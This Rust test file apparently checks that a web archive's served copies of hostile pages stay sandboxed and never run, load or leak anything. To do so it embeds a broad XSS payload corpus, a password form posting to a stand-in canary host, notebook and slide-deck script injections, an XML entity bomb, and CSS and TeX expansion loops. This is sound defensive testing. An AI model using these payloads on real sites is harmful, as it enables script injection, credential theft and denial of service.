//! Copies that are shown as pages: nothing that a host put into them runs, loads or leaks.

use std::fmt::Write as _;

use jiff::Timestamp;
use onreserve::domain::address::{Address, LinkId};
use onreserve::domain::capture::{CaptureId, Stamp};
use onreserve::domain::course::{CopyRules, Openness};
use onreserve::serve::{CourseRules, ServeSettings};
use scraper::Html;

use super::{Reply as Response, Server};
use crate::fetch::site::Reply;
use crate::harness::{Harness, Night, article, page_of, time_of};

const LINKS: [&str; 8] = [
    "http://bad.test/page",
    "http://bad.test/lab.ipynb",
    "http://bad.test/notes.md",
    "http://bad.test/old.xhtml",
    "http://bad.test/reveal",
    "http://bad.test/remark",
    "http://bad.test/maths",
    "http://bad.test/many",
];
/// A host that no copy may request anything from.
const CANARY: &str = "canary.test";
const PICTURES: usize = 10_000;

/// Markup of every kind that runs, loads or sends something.
const HOSTILE: &str = r#"
<script>top.location='http://canary.test/1'</script><SCRIPT SRC=http://canary.test/2></SCRIPT>
<img src=x onerror="alert(1)"><img src="javascript:alert(1)"><body onload=alert(1)>
<a href="javascript:alert(1)">j</a><a href=" &#106;avascript:alert(1)">e</a><a href="java
script:alert(1)">n</a><a href="data:text/html,<script>alert(1)</script>">d</a><a href="vbscript:x">v</a>
<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script><img src=http://canary.test/3>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object><embed src="http://canary.test/4.swf">
<form action="http://canary.test/5" method=post><input type=password name=p><button formaction="http://canary.test/6">Sign in</button></form>
<style>@import "http://canary.test/7.css"; body{background:url(http://canary.test/8.png)} p{width:expression(alert(1))}
input[value^=a]{background:url('http://canary.test/9')} @font-face{font-family:x;src:url(//canary.test/10)}</style>
<p style="background:url(http://canary.test/11);behavior:url(x.htc)">styled</p>
<link rel=stylesheet href=http://canary.test/12.css><link rel=preload as=image href=http://canary.test/13><link rel=dns-prefetch href=//canary.test>
<meta http-equiv=refresh content="0;url=http://canary.test/14"><base href="http://canary.test/15/">
<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a>
<image href="http://canary.test/16.png"/><use href="http://canary.test/17.svg#x"/><foreignObject><iframe src="http://canary.test/18"></iframe></foreignObject>
<animate attributeName=href values="javascript:alert(1)"/><set attributeName=onmouseover to="alert(1)"/></svg>
<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction><mi href="javascript:alert(1)">y</mi></math>
<video src="http://canary.test/19.mp4" poster="http://canary.test/20.png" autoplay><track src="http://canary.test/21.vtt"></video><audio src="http://canary.test/22.mp3"></audio>
<img srcset="http://canary.test/23 1x, http://canary.test/24 2x"><picture><source srcset="http://canary.test/25"></picture>
<table background="http://canary.test/26"><tr><td background="http://canary.test/27">x</table><a href="/ok" ping="http://canary.test/28">ping</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><img src=http://canary.test/29></template>
<p>the end of the hostile part</p>
"#;

fn notebook() -> String {
    let output = |kind: &str, text: &str| serde_json::json!({ "output_type": "display_data", "data": { kind: text }, "metadata": {} });
    let svg = format!("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{HOSTILE}</svg>");
    serde_json::json!({
        "nbformat": 4, "nbformat_minor": 5,
        "metadata": { "language_info": { "name": "python\"><script>alert(1)</script>" } },
        "cells": [
            { "cell_type": "markdown", "metadata": {}, "source": format!("# Lab\n\n[x](javascript:alert(1)) ![p](http://canary.test/30)\n\n{HOSTILE}"),
              "attachments": { "a.png": { "image/svg+xml": "PHN2Zy8+\"><script>alert(1)</script>" } } },
            { "cell_type": "code", "metadata": {}, "execution_count": 1, "source": "print('<script>alert(1)</script>')",
              "outputs": [output("text/html", HOSTILE), output("image/svg+xml", &svg), output("text/latex", "$\\href{javascript:alert(1)}{x}$"),
                          output("image/png", "AAAA\"><script>alert(1)</script>"), output("application/javascript", "alert(1)")] },
            { "cell_type": "code", "metadata": {}, "execution_count": 2, "source": "1/0", "outputs": [
                { "output_type": "stream", "name": "stderr\"><script>alert(1)</script>", "text": "\u{1b}[31m<script>alert(1)</script>\u{1b}[0m" },
                { "output_type": "error", "ename": "E", "evalue": "v", "traceback": ["\u{1b}[1;31m<img src=x onerror=alert(1)>\u{1b}[38;5;\"><b>m"] },
            ] },
            { "cell_type": "raw", "metadata": {}, "source": HOSTILE },
        ],
    })
    .to_string()
}

fn page_with_many_pictures() -> String {
    let mut pictures = String::new();
    for number in 0..PICTURES {
        let _ = write!(pictures, "<img src=/p/{number}.gif>");
    }
    article("The reading at http://bad.test/many").replace("</main>", &format!("{pictures}</main>"))
}

/// Slides whose backgrounds, Markdown and captions load or run something.
fn reveal(hostile: &str) -> String {
    format!(
        r#"</main><div class="reveal"><div class="slides">
        <section data-background="http://canary.test/40.png"><h2>One</h2></section>
        <section data-background-color="red;background:url(http://canary.test/41)"><h2>Two</h2></section>
        <section data-background-color="url(http://canary.test/42)"><h2>Three</h2></section>
        <section data-background-gradient="linear-gradient(red, blue), url(http://canary.test/43)"><h2>Four</h2></section>
        <section data-background="image-set('http://canary.test/44' 1x, linear-gradient(red, blue) 2x)"><h2>Five</h2></section>
        <section data-background-image="/bg.png" data-background-opacity="0.5),url(http://canary.test/45"><h2>Six</h2></section>
        <section data-background-iframe="http://canary.test/46" data-background-video="http://canary.test/47"><h2>Seven</h2></section>
        <section><pre><code data-trim class="x onclick=alert(1)">&lt;script&gt;alert(1)&lt;/script&gt;</code></pre></section>
        <section data-markdown><textarea data-template>## M [x](javascript:alert(1)) ![p](http://canary.test/48)

{hostile}</textarea></section>
        <section><video><track src="/captions.vtt" default></video>{hostile}</section></div></div>"#
    )
}

fn remark(hostile: &str) -> String {
    format!(
        r#"</main><textarea id="source">
class: x" onclick="alert(1)
background-image: url(http://canary.test/50)

# One .x[<script>alert(1)</script>] .y.z[[a](javascript:alert(1))]
---
background-color: red" onload="alert(1);position:fixed

.left[
{hostile}
]
</textarea><script>remark.create()</script><p>the end of the hostile part</p>"#
    )
}

/// Formulas that grow without end, and formulas with markup.
fn maths(hostile: &str) -> String {
    let deep = "{".repeat(9_000);
    let definitions = r"\def\a{".repeat(50_000);
    format!(
        r#"</main><script src=katex.min.js></script><script>o = {{macros: {{"\\z": "\\z\\z", "\\j": "\\href{{javascript:alert(1)}}{{#1}}"}}}}</script>
        <p>\[\def\p{{\q\q\q\q}}\def\q{{\r\r\r\r}}\def\r{{\s\s\s\s}}\def\s{{\t\t\t\t}}\def\t{{\u\u\u\u}}\def\u{{\v\v\v\v}}\def\v{{}}\p\]</p>
        <p>\(\z\) \(\j{{x}}\) \[{deep}\] \[\text{{&lt;script&gt;alert(1)&lt;/script&gt;}}\]</p>
        <p>\[\href{{javascript:alert(1)}}{{x}} \operatorname*{{&lt;img src=x onerror=alert(1)&gt;}} \tag{{&lt;b onclick=alert(1)&gt;}}\]</p>
        <span class="math inline">&lt;script&gt;alert(1)&lt;/script&gt; \over x</span><p>{definitions}</p>
        <span class=katex><span class=katex-mathml><math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math></span></span>
        {hostile}"#
    )
}

fn host(target: &str) -> Reply {
    let hostile = without_refresh();
    // A short page with a password field would be judged as a login page.
    let without_login = hostile.replace("type=password", "type=text");
    let html = |body: String| Reply::new(200, "content-type: text/html", body);
    let titled = |target: &str| article(&format!("The reading at http://bad.test{target}"));
    match target {
        "/page" => html(titled(target).replace(
            "</main>",
            &format!("<link rel=stylesheet href=/circle.css><img src=/drawing.svg><iframe src=/frame.html></iframe>{hostile}</main>"),
        )),
        // Two sheets that import each other, and themselves.
        "/circle.css" => Reply::new(
            200,
            "content-type: text/css",
            "@import '/circle2.css'; @import '/circle.css'; body{background:url(http://canary.test/31)}",
        ),
        "/circle2.css" => Reply::new(200, "content-type: text/css", "@import url('circle.css'); p{color:red}</style><script>alert(1)</script>"),
        "/drawing.svg" => Reply::new(
            200,
            "content-type: image/svg+xml",
            format!("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{hostile}</svg>"),
        ),
        "/frame.html" => html(format!("<!doctype html><p>frame</p><iframe src=/frame.html></iframe>{hostile}")),
        "/lab.ipynb" => Reply::new(200, "content-type: application/json", notebook()),
        "/notes.md" => Reply::new(
            200,
            "content-type: text/markdown",
            format!("# Notes\n\n{}\n\n[x](javascript:alert(1))\n\n{hostile}", "Words about flows and scores. ".repeat(30)),
        ),
        "/old.xhtml" => Reply::new(
            200,
            "content-type: application/xhtml+xml",
            format!(
                "<?xml version=\"1.0\"?><!DOCTYPE html [<!ENTITY a \"{}\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>\
                 <html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>Old</title></head><body><h1>Old notes</h1><p>{}</p><p>&b;</p>{without_login}</body></html>",
                "bomb ".repeat(1000),
                "Words about flows and scores. ".repeat(30)
            ),
        ),
        "/reveal" => html(titled(target).replace("</main>", &reveal(&hostile))),
        "/remark" => html(titled(target).replace("</main>", &remark(&hostile))),
        "/maths" => html(titled(target).replace("</main>", &maths(&hostile))),
        "/captions.vtt" => Reply::new(
            200,
            "content-type: text/vtt",
            format!("WEBVTT\n\n00:00.000 --> 00:09.000\n<c.x onclick=alert(1)>{hostile}</c>\n"),
        ),
        "/many" => html(page_with_many_pictures()),
        _ if target.starts_with("/p/") => Reply::new(200, "content-type: image/gif", format!("GIF89a{target}")),
        _ => Reply::not_found(),
    }
}

/// For pages whose refresh would be followed to another page.
fn without_refresh() -> String {
    HOSTILE.replace(
        "http-equiv=refresh content=\"0;url=http://canary.test/14\"",
        "http-equiv=set-cookie content=\"a=b\"",
    )
}

async fn archived() -> (Harness, Night, Server) {
    let harness = Harness::start(["course.test", "bad.test", CANARY], |_, seen| match &*seen.host {
        "course.test" if seen.target == "/" => Reply::page(&page_of(&LINKS)),
        "bad.test" => host(&seen.target),
        _ => Reply::not_found(),
    })
    .await;
    harness.one_course();
    let night = harness.check(1).await;
    let rules = CourseRules {
        copies: CopyRules { openness: Openness::Open, ..CopyRules::default() },
        ..CourseRules::new("c".parse().unwrap())
    };
    let settings = ServeSettings { courses: vec![rules], ..ServeSettings::default() };
    let server = Server::over(&harness.archive(), settings, time_of(2).parse().unwrap()).await;
    (harness, night, server)
}

/// The address of the page of a link's copy.
fn view(night: &Night, link: &str) -> String {
    let capture = &night.link(link)["capture"];
    let at: Timestamp = capture["captured_at"]
        .as_str()
        .unwrap_or_else(|| panic!("{link}: {}", night.link(link)))
        .parse()
        .unwrap();
    let id = CaptureId { link: LinkId::of(&Address::parse(link).unwrap()), at: Stamp::of(at) };
    format!("/view/{id}/")
}

/// The policy of a page lets it load nothing from elsewhere, run nothing and send nothing.
fn assert_confined(path: &str, reply: &Response) {
    let policy = reply.header("content-security-policy").unwrap_or_default();
    for part in ["sandbox ", "default-src 'none'", "form-action 'none'", "base-uri 'none'"] {
        assert!(policy.contains(part), "{path}: {policy}");
    }
    assert!(!policy.contains("allow-scripts") && !policy.contains("script-src"), "{path}: {policy}");
    assert_eq!(reply.header("x-content-type-options"), Some("nosniff"), "{path}");
}

/// Every attribute of the page, also in frames that are part of it. It is read as a browser
/// reads it without scripts.
fn assert_inert(path: &str, source: &str) {
    let page = Html::parse_document(source);
    for node in page.tree.nodes() {
        let Some(element) = node.value().as_element() else { continue };
        let name = element.name();
        assert!(!["script", "base", "object", "embed", "set", "animate"].contains(&name), "{path}: <{name}>");
        for (attribute, value) in element.attrs() {
            let folded: String = value
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect::<String>()
                .to_lowercase();
            assert!(!attribute.starts_with("on"), "{path}: <{name} {attribute}>");
            let is_script = folded.starts_with("javascript:") || folded.starts_with("vbscript:");
            assert!(!is_script, "{path}: <{name} {attribute}={value}>");
            assert!(!folded.starts_with("data:text/html"), "{path}: <{name} {attribute}={value}>");
            assert_ne!(attribute, "http-equiv", "{path}");
            // A link may lead to its original; nothing may be loaded or sent without a click.
            let is_followed = name == "a" || name == "area";
            let is_sent = ["ping", "formaction"].contains(&attribute);
            if !is_followed || is_sent {
                assert!(!folded.contains(CANARY), "{path}: <{name} {attribute}={value}>");
            }
            if attribute == "srcdoc" {
                assert_inert(path, value);
            }
        }
        if name == "style" {
            let sheet: String =
                node.children().filter_map(|child| Some(child.value().as_text()?.to_string())).collect();
            assert!(!sheet.contains(CANARY), "{path}: {sheet}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_in_a_page_runs_loads_or_leaks() {
    let (harness, night, server) = archived().await;
    for link in LINKS {
        let path = view(&night, link);
        let reply = server.get(&path).await;
        assert_eq!(reply.status, 200, "{link}: {}", reply.text());
        assert_confined(link, &reply);
        assert_inert(link, &reply.text());
        if link != "http://bad.test/many" {
            assert!(
                reply.text().contains("the end of the hostile part"),
                "{link}: the rest of the page is missing"
            );
        }
        // Its requisites: sheets in circles, a drawing, a frame in itself.
        for place in 0..10 {
            let path = format!("{path}{place}");
            let reply = server.get(&path).await;
            if reply.status != 200 {
                break;
            }
            assert_confined(&path, &reply);
            match reply.header("content-type").unwrap_or_default() {
                kind if kind.starts_with("text/html") => assert_inert(&path, &reply.text()),
                kind if kind.starts_with("text/css") => {
                    assert!(!reply.text().contains(CANARY), "{}", reply.text())
                }
                kind => assert!(
                    kind.starts_with("image/") || kind == "application/octet-stream",
                    "{path}: {kind}"
                ),
            }
        }
    }
    let pictures = harness.site.targets().iter().filter(|target| target.starts_with("/p/")).count();
    assert!((1..=200).contains(&pictures), "{pictures} of {PICTURES} pictures were requested");
    let sheets = harness.site.targets().iter().filter(|target| target.ends_with(".css")).count();
    assert!(sheets <= 20, "{sheets} sheets were requested");
}
